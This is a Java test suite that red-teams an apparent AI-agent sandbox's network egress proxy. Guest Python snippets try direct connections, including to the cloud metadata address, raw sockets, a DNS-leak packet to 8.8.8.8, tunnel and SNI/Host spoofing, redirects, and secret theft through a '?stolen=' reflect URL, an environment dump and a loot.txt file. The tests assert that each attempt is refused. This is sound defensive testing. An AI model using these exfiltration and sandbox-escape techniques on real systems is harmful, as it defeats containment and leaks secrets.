package io.agentcage.docker;

import static io.agentcage.egress.testing.TestUpstreams.ALLOWED;
import static io.agentcage.egress.testing.TestUpstreams.API;
import static io.agentcage.egress.testing.TestUpstreams.FORBIDDEN;
import static org.assertj.core.api.Assertions.assertThat;

import io.agentcage.ExecutionRequest;
import io.agentcage.ExecutionResult;
import io.agentcage.Outcome;
import io.agentcage.egress.testing.NarrowedToNoneCheck;
import io.agentcage.net.EgressRecord;
import io.agentcage.net.HostRule;
import io.agentcage.net.NetworkPolicy;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/**
 * The red-team suite of issue 22 from inside a container: each attempt fails with an error in the guest, nothing
 * reaches a server it may not, no refused name is looked up by the host, and what reaches the proxy is recorded and
 * audited as refused (a direct connection, a raw socket or a DNS query never leaves the container, so there is
 * nothing to record: the kernel refuses it, {@code --network none}).
 */
abstract class EgressAttacks extends EgressContainerContract {

    /** Child Python without the worker's audit hook: what the kernel says, not netguard's wording. */
    static String child(String code) {
        return "import subprocess, sys\n"
                + "p = subprocess.run([sys.executable, '-I', '-c', " + pyString(code) + "], capture_output=True, "
                + "text=True, timeout=60)\n"
                + "print(p.stdout + p.stderr)\n";
    }

    static String pyString(String s) {
        return "'" + s.replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n") + "'";
    }

    @Test
    void should_refuse_direct_connections_when_the_guest_bypasses_the_proxy() {
        int port = up.port(ALLOWED, false);
        String connect = "import socket\n"
                + "for host in ['172.17.0.1', '10.0.0.1', '93.184.216.34', '169.254.169.254']:\n"
                + "    try:\n"
                + "        socket.create_connection((host, " + port + "), timeout=10)\n"
                + "        print('CONNECTED', host)\n"
                + "    except OSError as e:\n"
                + "        print('refused', host, e.errno, e.strerror)\n";
        ExecutionResult r = run(connect
                + "import urllib.request\n"
                + "direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n"
                + "try:\n"
                + "    direct.open('http://127.0.0.1:" + port + "/hello', timeout=10)\n"
                + "    print('OPENED')\n"
                + "except OSError as e:\n"
                + "    print('direct loopback refused:', e)\n"
                + child(connect));
        assertThat(r.outcome()).as(r.message() + r.stderr()).isEqualTo(Outcome.SUCCESS);
        assertThat(r.stdout()).doesNotContain("CONNECTED").doesNotContain("OPENED")
                .contains("direct network access is not available in the sandbox")
                .contains("direct loopback refused");
        // the child has no audit hook: the kernel's answer (runc: ENETUNREACH, gVisor's netstack: EHOSTUNREACH)
        assertThat(r.stdout().lines().filter(l -> l.matches("refused \\S+ (101 Network is unreachable|113 No "
                + "route to host)"))).hasSize(4);
        assertThat(r.egress()).isEmpty();
        assertThat(up.allSeen()).isEmpty();
    }

    @Test
    void should_refuse_raw_sockets_and_dns_when_the_guest_tries_them() {
        String attempts = "import socket\n"
                + "for fam, kind, proto in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), "
                + "(socket.AF_PACKET, socket.SOCK_RAW, 0)]:\n"
                + "    try:\n"
                + "        socket.socket(fam, kind, proto)\n"
                + "        print('RAW CREATED')\n"
                + "    except OSError as e:\n"
                + "        print('raw refused', e.errno)\n"
                + "try:\n"
                + "    print('RESOLVED', socket.getaddrinfo('" + FORBIDDEN + "', 80))\n"
                + "except OSError as e:\n"
                + "    print('dns refused:', e)\n"
                + "try:\n"
                + "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                + "    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x04test\\x00"
                + "\\x00\\x01\\x00\\x01', ('8.8.8.8', 53))\n"
                + "    print('DNS SENT')\n"
                + "except OSError as e:\n"
                + "    print('udp refused', e.errno)\n";
        ExecutionResult r = run(attempts + child(attempts));
        assertThat(r.outcome()).as(r.message() + r.stderr()).isEqualTo(Outcome.SUCCESS);
        assertThat(r.stdout()).doesNotContain("RAW CREATED").doesNotContain("RESOLVED").doesNotContain("DNS SENT")
                .contains("name resolution is not available in the sandbox");
        assertThat(r.stdout().lines().filter(l -> l.startsWith("raw refused"))).hasSize(4);
        assertThat(r.stdout().lines().filter(l -> l.startsWith("dns refused"))).hasSize(2);
        assertThat(up.lookups()).isEmpty();
        assertThat(r.egress()).isEmpty();
    }

    @Test
    void should_refuse_a_connect_to_a_port_or_host_the_policy_does_not_allow() {
        ExecutionResult r = run("import http.client\n"
                + "for host, port in [('" + ALLOWED + "', " + up.port(FORBIDDEN, true) + "), ('" + ALLOWED
                + "', 22), ('" + FORBIDDEN + "', " + up.port(FORBIDDEN, true) + "), ('127.0.0.1', "
                + up.port(ALLOWED, true) + ")]:\n"
                + "    c = http.client.HTTPSConnection('127.0.0.1', 3128, timeout=60)\n"
                + "    c.set_tunnel(host, port)\n"
                + "    try:\n"
                + "        c.request('GET', '/hello')\n"
                + "        print('TUNNELLED', host, port)\n"
                + "    except OSError as e:\n"
                + "        print('refused:', e)\n");
        assertThat(r.outcome()).as(r.message() + r.stderr()).isEqualTo(Outcome.SUCCESS);
        assertThat(r.stdout()).doesNotContain("TUNNELLED");
        assertThat(r.stdout().lines().filter(l -> l.startsWith("refused: Tunnel connection failed: 403 Refused by "
                + "the sandbox's network policy"))).hasSize(4);
        assertThat(r.egress()).hasSize(4).allMatch(e -> e.decision() == EgressRecord.Decision.REFUSED);
        assertThat(up.allSeen()).isEmpty();
        assertThat(up.lookups()).isEmpty();
    }

    @Test
    void should_refuse_a_server_name_or_host_header_that_is_not_the_connect_host() {
        int tls = up.port(ALLOWED, true);
        ExecutionResult r = run("import socket, ssl, http.client\n"
                + "s = socket.create_connection(('127.0.0.1', 3128), timeout=60)\n"
                + "s.sendall(b'CONNECT www.allowed.test:" + tls + " HTTP/1.1\\r\\nHost: www.allowed.test:" + tls
                + "\\r\\n\\r\\n')\n"
                + "print(s.recv(200).split(b'\\r\\n')[0])\n"
                + "ctx = ssl.create_default_context()\n"
                + "ctx.check_hostname = False\n"
                + "ctx.verify_mode = ssl.CERT_NONE\n"
                + "try:\n"
                + "    t = ctx.wrap_socket(s, server_hostname='" + FORBIDDEN + "')\n"
                + "    t.sendall(b'GET /hello HTTP/1.1\\r\\nHost: " + FORBIDDEN + "\\r\\n\\r\\n')\n"
                + "    print('SNI PASSED', t.recv(100))\n"
                + "except OSError as e:\n"
                + "    print('sni refused:', type(e).__name__)\n"
                + "c = http.client.HTTPSConnection('127.0.0.1', 3128, timeout=60)\n"
                + "c.set_tunnel('" + API + "', " + up.port(API, true) + ")\n"
                + "c.request('GET', '/echo', headers={'Host': '" + FORBIDDEN + "'})\n"
                + "resp = c.getresponse()\n"
                + "print('host header:', resp.status, resp.reason)\n");
        assertThat(r.outcome()).as(r.message() + r.stderr()).isEqualTo(Outcome.SUCCESS);
        assertThat(r.stdout()).contains("b'HTTP/1.1 200").contains("sni refused").doesNotContain("SNI PASSED")
                .contains("host header: 400 Refused by the sandbox's network policy: the Host header");
        assertThat(r.egress()).hasSize(2).allMatch(e -> e.decision() == EgressRecord.Decision.REFUSED);
        assertThat(up.allSeen()).isEmpty();
    }

    @Test
    void should_refuse_a_redirect_to_a_forbidden_host() {
        String target = "http://" + FORBIDDEN + ":" + up.port(FORBIDDEN, false) + "/hello";
        ExecutionResult r = run(urllib(up.url(ALLOWED, false, "/redirect?to=" + URLEncoder.encode(target,
                StandardCharsets.UTF_8)), "GET"));
        assertThat(r.stdout()).as(r.message() + r.stderr()).startsWith("refused:").contains("network policy");
        assertThat(r.egress()).extracting(EgressRecord::decision).containsExactly(EgressRecord.Decision.ALLOWED,
                EgressRecord.Decision.REFUSED);
        assertThat(up.seen(FORBIDDEN)).isEmpty();
        assertThat(up.lookups()).doesNotContain(FORBIDDEN);
    }

    @Test
    void should_keep_the_secret_out_of_everything_guest_code_can_read() {
        String reflect = up.url(API, true, "/reflect?to=" + URLEncoder.encode(up.url(ALLOWED, false,
                "/echo?stolen="), StandardCharsets.UTF_8));
        ExecutionResult r = run("import urllib.request, urllib.error, http.client, os\n"
                + "seen = []\n"
                + "try:\n"
                + "    resp = urllib.request.urlopen('" + reflect + "', timeout=60)\n"
                + "    seen.append(resp.read()); seen.append(str(resp.headers.items())); seen.append(resp.geturl())\n"
                + "except urllib.error.HTTPError as e:\n"
                + "    seen.append(str(e.headers.items())); seen.append(e.read())\n"
                + "seen.append(urllib.request.urlopen('" + up.url(API, true, "/echo") + "', timeout=60).read())\n"
                + "c = http.client.HTTPSConnection('127.0.0.1', 3128, timeout=60)\n"
                + "c.set_tunnel('" + API + "', " + up.port(API, true) + ")\n"
                + "c.request('GET', '/echo', headers={'X-Steal': '{secret:crm}'})\n"
                + "seen.append(c.getresponse().read())\n"
                + "seen.append(str(dict(os.environ)))\n"
                + "seen.append(open(os.environ['SSL_CERT_FILE']).read())\n"
                + "open('loot.txt', 'w').write(repr(seen))\n"
                + "print(repr(seen))\n");
        assertThat(r.outcome()).as(r.message() + r.stderr()).isEqualTo(Outcome.SUCCESS);
        assertThat(r.stdout()).doesNotContain(SECRET).contains("*".repeat(SECRET.length()))
                .contains("{secret:crm}").contains("BEGIN CERTIFICATE").doesNotContain("PRIVATE KEY");
        assertThat(up.seen(API)).anyMatch(l -> l.contains("Bearer " + SECRET));
        assertThat(up.seen(ALLOWED)).isNotEmpty().allMatch(l -> !l.contains(SECRET));
        assertThat(r.files()).anyMatch(f -> f.path().endsWith("loot.txt"));
        assertThat(r.egress()).isNotEmpty();
    }

    @Test
    void should_refuse_requests_past_the_request_budget() {
        int http = up.port(ALLOWED, false);
        ExecutionResult r = run(ExecutionRequest.builder("import urllib.request, urllib.error\n"
                + "for i in range(3):\n"
                + "    try:\n"
                + "        print('ok', urllib.request.urlopen('" + up.url(ALLOWED, false, "/hello") + "', "
                + "timeout=60).status)\n"
                + "    except urllib.error.HTTPError as e:\n"
                + "        print('http', e.code, e.reason)\n")
                .network(NetworkPolicy.builder().allow(HostRule.of(ALLOWED).withPorts(http)).maxRequests(2).build())
                .build());
        assertThat(r.stdout()).as(r.message() + r.stderr()).startsWith("ok 200\nok 200\nhttp 429")
                .contains("request budget");
        assertThat(r.egress()).extracting(EgressRecord::decision).containsExactly(EgressRecord.Decision.ALLOWED,
                EgressRecord.Decision.ALLOWED, EgressRecord.Decision.REFUSED);
        assertThat(up.allSeen()).hasSize(2);
    }

    @Test
    void should_cut_a_download_or_upload_past_the_byte_budgets() {
        int http = up.port(ALLOWED, false);
        ExecutionResult r = run(ExecutionRequest.builder("import urllib.request\n"
                + "try:\n"
                + "    print('GOT', len(urllib.request.urlopen('" + up.url(ALLOWED, false, "/bytes?n=300000")
                + "', timeout=60).read()))\n"
                + "except Exception as e:\n"
                + "    print('download cut:', type(e).__name__)\n")
                .network(NetworkPolicy.builder().allow(HostRule.of(ALLOWED).withPorts(http)).maxBytesIn(50_000)
                        .build()).build());
        assertThat(r.stdout()).as(r.message() + r.stderr()).contains("download cut").doesNotContain("GOT");
        assertThat(r.egress()).singleElement().satisfies(e -> assertThat(e.reason())
                .contains("bytes received per execution is exhausted"));

        ExecutionResult up2 = run("import urllib.request\n"
                + "try:\n"
                + "    urllib.request.urlopen('" + url("www.allowed.test", false, "/echo") + "', data=b'x' * 200000, "
                + "timeout=60)\n"
                + "    print('SENT')\n"
                + "except OSError as e:\n"
                + "    print('upload cut:', type(e).__name__)\n");
        assertThat(up2.stdout()).as(up2.message() + up2.stderr()).contains("upload cut").doesNotContain("SENT");
        assertThat(up2.egress()).singleElement().satisfies(e -> assertThat(e.reason())
                .contains("bytes sent per execution is exhausted"));
        assertThat(up.allSeen()).noneMatch(l -> l.contains("x".repeat(1000)));
    }

    @Test
    void should_relay_each_execution_of_a_session_and_of_executeAsync() throws Exception {
        String get = "import urllib.request\n"
                + "print(urllib.request.urlopen('" + up.url(ALLOWED, false, "/hello") + "', timeout=60).read())\n";
        java.util.List<java.util.concurrent.CompletableFuture<ExecutionResult>> async = new java.util.ArrayList<>();
        for (int i = 0; i < 3; i++) {
            async.add(docker.executeAsync(ExecutionRequest.of(get)));
        }
        for (java.util.concurrent.CompletableFuture<ExecutionResult> f : async) {
            ExecutionResult r = f.get(300, java.util.concurrent.TimeUnit.SECONDS);
            assertThat(r.stdout()).as(r.message() + r.stderr()).isEqualTo("b'hello from allowed.test over http\\n'\n");
            assertThat(r.egress()).singleElement().extracting(EgressRecord::decision)
                    .isEqualTo(EgressRecord.Decision.ALLOWED);
        }
        try (io.agentcage.Session session = docker.openSession()) {
            ExecutionResult first = session.execute(ExecutionRequest.of("import urllib.request\n" + get));
            ExecutionResult second = session.execute(ExecutionRequest.of(get + get));
            assertThat(first.stdout()).as(first.message() + first.stderr()).contains("hello from allowed.test");
            assertThat(second.stdout()).as(second.message() + second.stderr())
                    .isEqualTo("b'hello from allowed.test over http\\n'\n".repeat(2));
            assertThat(first.egress()).hasSize(1);
            assertThat(second.egress()).as("each execution has its own records").hasSize(2);
        }
        assertThat(up.allSeen()).hasSize(6);
    }

    @Test
    void should_name_the_policy_and_listen_nowhere_when_the_request_narrows_to_none() {
        ExecutionResult r = run(ExecutionRequest.builder(NarrowedToNoneCheck.program(up))
                .network(NetworkPolicy.none()).build());
        NarrowedToNoneCheck.verify(r, up);
    }
}
